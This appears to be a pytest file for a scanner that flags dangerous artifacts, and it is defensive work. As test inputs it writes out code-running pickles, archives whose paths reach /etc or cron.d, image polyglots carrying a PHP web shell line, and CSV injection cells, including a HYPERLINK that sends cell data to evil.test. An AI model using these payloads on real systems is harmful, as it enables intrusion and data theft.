"""Artifacts are recognised by what they are, and only what acts on whoever opens it weighs."""

from __future__ import annotations

import gzip
import io
import lzma
import pickle
import re
import stat
import struct
import sys
import tarfile
import zipfile
from collections import OrderedDict
from datetime import UTC, datetime
from pathlib import Path

import pytest

from kavach.gate import archives, pickles
from kavach.gate.binary import BINARY
from kavach.gate.judge import judge
from kavach.model.verdict import ExternalizationPolicy, Severity, Verdict

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64


def seen(data: bytes) -> dict[str, Severity]:
    return {mark.rule: mark.severity for mark in BINARY.inspect(data, ())}


def zip_of(*names: str, links: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), b"content")
        for name, target in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return out.getvalue()


def tar_of(*members: tuple[str, bytes, str]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, kind, target in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            archive.addfile(info)
    return out.getvalue()


class Calls:
    def __init__(self, function, *arguments):
        self.made = function, arguments

    def __reduce__(self):
        return self.made


def pe() -> bytes:
    return b"MZ".ljust(0x3C, b"\0") + struct.pack("<I", 0x80) + b"\0" * 0x40 + b"PE\0\0rest"


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (Path(sys.executable).read_bytes()[:4096], "elf"),
        (pe(), "pe"),
        (b"\xcf\xfa\xed\xfe" + b"\0" * 28, "mach-o"),
        (b"\xca\xfe\xba\xbe\0\0\0\2" + b"\0" * 28, "mach-o"),
        (b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 28, "java-class"),
        (b"\0asm\1\0\0\0", "wasm"),
        (pickle.dumps({"a": [1, 2.5, "text"], "at": datetime(2026, 1, 1, tzinfo=UTC)}), "pickle"),
        (pickle.dumps(OrderedDict(os="linux")), "pickle"),
    ],
)
def test_what_a_program_writes_ordinarily_is_recognised_and_no_more(data, rule):
    assert seen(data) == {rule: Severity.INFO}
    marks = list(BINARY.inspect(data, ()))
    assert [(mark.start, mark.end) for mark in marks] == [(0, len(data))]
    for policy in (ExternalizationPolicy.redact(), ExternalizationPolicy.enforce()):
        assert judge(marks, policy).verdict is Verdict.PASS


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"MZ is how this sentence starts",
        b"MZ".ljust(0x3C, b"\0") + b"\xff\xff\xff\x7f",
        PNG,
        b"GIF89a" + bytes(range(256)),
        b"%PDF-1.7\n<script>",
        b"plain text, PK\x03\x04 and \x7fELF in the middle",
        b"\x1f\x8b\x08" + b"\0" * 40,
        gzip.compress(b"no archive"),
        zip_of("a/b.txt", "a..b/..c", "ünïcode"),
        zip_of("lib/x.so.1", links={"lib/x.so": "x.so.1", "a/b": "../lib/x.so"}),
        b"#!/usr/bin/env python3\n" + zip_of("__main__.py"),
        tar_of(("a/b", tarfile.REGTYPE, ""), ("a/c", tarfile.SYMTYPE, "b"), ("a/d", tarfile.LNKTYPE, "a/b")),
    ],
)
def test_harmless_data_leaves_no_mark(data):
    assert seen(data) == {}


@pytest.mark.parametrize("protocol", [2, 3, 4, 5])
@pytest.mark.parametrize(
    "thing",
    [
        Calls(__import__("os").system, "true"),
        Calls(eval, "1"),
        [1, {"a": Calls(__import__("subprocess").Popen, "true")}],
    ],
)
def test_a_pickle_that_runs_code_is_high(thing, protocol):
    assert seen(pickle.dumps(thing, protocol=protocol)) == {"pickle-call": Severity.HIGH}


def test_a_pickle_that_runs_code_before_its_broken_end_is_high():
    assert seen(pickle.dumps(Calls(eval, "1"), protocol=4)[:-1] + b"\xff") == {"pickle-call": Severity.HIGH}


def test_a_pickle_that_cannot_be_read_is_said_to_be_unparsed(monkeypatch):
    assert seen(b"\x80\x04\xff\xff") == {"unparsed": Severity.INFO}
    monkeypatch.setattr(pickles, "OPCODES_READ", 10)
    assert seen(pickle.dumps(list(range(100)))) == {"unparsed": Severity.INFO}


@pytest.mark.parametrize(
    "data",
    [
        zip_of("good", "../evil"),
        zip_of("/etc/passwd"),
        zip_of("a/../../evil"),
        zip_of("..\\evil"),
        zip_of("C:evil"),
        zip_of("good", links={"out": "/etc"}),
        zip_of("good", links={"a/out": "../../etc"}),
        b"#!/bin/sh\n" + zip_of("../evil"),
        tar_of(("../evil", tarfile.REGTYPE, "")),
        tar_of(("/etc/cron.d/x", tarfile.REGTYPE, "")),
        tar_of(("out", tarfile.SYMTYPE, "/etc")),
        tar_of(("a/out", tarfile.SYMTYPE, "../..")),
        tar_of(("out", tarfile.LNKTYPE, "../secret")),
        tar_of(("dev", tarfile.BLKTYPE, "")),
        gzip.compress(tar_of(("good", tarfile.REGTYPE, ""), ("../evil", tarfile.REGTYPE, ""))),
        lzma.compress(tar_of(("../evil", tarfile.REGTYPE, ""))),
    ],
)
def test_an_archive_that_writes_elsewhere_is_high(data):
    assert seen(data) == {"archive-traversal": Severity.HIGH}


def test_a_compressed_archive_is_unpacked_to_its_budget_and_no_further(monkeypatch):
    monkeypatch.setattr(archives, "UNPACKED_BYTES", 1024)
    packed = gzip.compress(tar_of(*((f"file{number}", tarfile.REGTYPE, "") for number in range(100))))
    assert len(archives.unpack_head(packed)) == 1024
    assert seen(packed) in ({}, {"unparsed": Severity.INFO})


@pytest.mark.parametrize("cut", [30, 60, 90])
def test_a_broken_archive_is_said_to_be_unparsed_or_is_none(cut):
    data = zip_of("a", "b", "c")
    broken = data[:cut] + b"\xff" * 8 + data[cut + 8 :]
    assert seen(broken).keys() <= {"unparsed", "archive-traversal"}
    assert seen(data[:-22] + b"PK\x05\x06" + b"\xff" * 18) == {"unparsed": Severity.INFO}


@pytest.mark.parametrize(
    "data",
    [
        PNG + zip_of("a"),
        b"%PDF-1.7\n" + zip_of("a"),
        b"GIF89a/*\n" + b"%PDF-1.4\n",
        b"\xff\xd8\xff\xe0" + b"<?php system($_GET[0]); ?>",
        b"GIF89a" + b"<script>alert(1)</script>",
        PNG + b"\x7fELF\x02\x01\x01" + b"\0" * 40,
    ],
)
def test_a_picture_that_is_a_second_thing_is_high(data):
    assert seen(data) == {"polyglot": Severity.HIGH}


def formulas(text: str) -> list[tuple[str, str]]:
    data = text.encode()
    found = []
    for rule in BINARY.rules:
        for match in re.finditer(rule.expression.encode(), data):
            assert any(word in data.lower() for word in rule.literals)
            found.append((rule.name, match.group(rule.group).decode()))
    return found


@pytest.mark.parametrize(
    ("text", "rule", "cell"),
    [
        ("name,=cmd|' /C calc'!A0,x", "csv-command", "=cmd|' /C calc'!A0"),
        ("a\tb\n+powershell.exe|'-c x'!_x\n", "csv-command", "+powershell.exe|'-c x'!_x"),
        ("\"=1+MSHTA|'x'!A1\"", "csv-command", "=1+MSHTA|'x'!A1"),
        ('x,=HYPERLINK("http://evil.test/?"&A1,"y")', "csv-formula", '=HYPERLINK("http://evil.test/?"&A1,"y")'),
        ("@SUM(WEBSERVICE(A1))", "csv-formula", "@SUM(WEBSERVICE(A1))"),
        ('-IMPORTXML("http://x.test","//a")', "csv-formula", '-IMPORTXML("http://x.test","//a")'),
    ],
)
def test_a_cell_that_acts_is_found(text, rule, cell):
    assert formulas(text) == [(rule, cell)]


@pytest.mark.parametrize(
    "text",
    ["=1+1", "====", "-5,+3", "@decorator", "cat x | cmd | y!", "x = hyperlink(a)", "use =SUM(A1:A3)", "run cmd|'x'"],
)
def test_ordinary_cells_and_code_are_no_formulas(text):
    assert formulas(text) == []
